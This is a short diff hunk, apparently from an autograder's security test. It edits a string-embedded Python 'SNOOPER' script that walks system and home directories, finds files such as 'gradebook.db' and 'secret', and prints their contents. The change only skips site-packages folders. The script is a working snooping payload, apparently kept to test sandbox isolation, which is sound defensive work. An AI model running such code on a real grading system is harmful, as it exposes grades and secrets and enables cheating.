@@ -135,7 +135,7 @@ SNOOPER = """\
 import os, socket
 for top in ["/work", "/home", "/root", "/course", "/tmp", "/etc", os.getcwd(), ".."]:
     for folder, _, files in os.walk(top):
-        for name in files:
+        for name in files if "site-packages" not in folder else []:
             if name in ("gradebook.db", "secret") or name.startswith("01_iou"):
                 print("FOUND", folder, name, open(os.path.join(folder, name), "rb").read(200))
 try:
